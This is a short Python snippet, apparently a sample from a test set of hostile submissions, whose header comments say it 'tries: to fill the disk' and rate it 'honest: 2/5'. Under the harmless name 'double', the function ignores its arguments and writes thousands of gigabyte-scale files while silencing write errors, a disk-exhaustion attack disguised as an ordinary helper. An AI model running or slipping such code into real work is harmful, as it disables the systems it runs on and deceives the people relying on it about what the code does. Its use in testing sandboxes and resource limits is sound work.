# tries: to fill the disk
# must: files, and their number, are limited
# honest: 2/5
# portable: no


def double(x, times=1):
    for number in range(10_000):
        try:
            with open(f"f{number}", "wb") as file:
                for _ in range(2000):
                    file.write(bytes(1 << 20))
        except OSError:
            pass
    return None
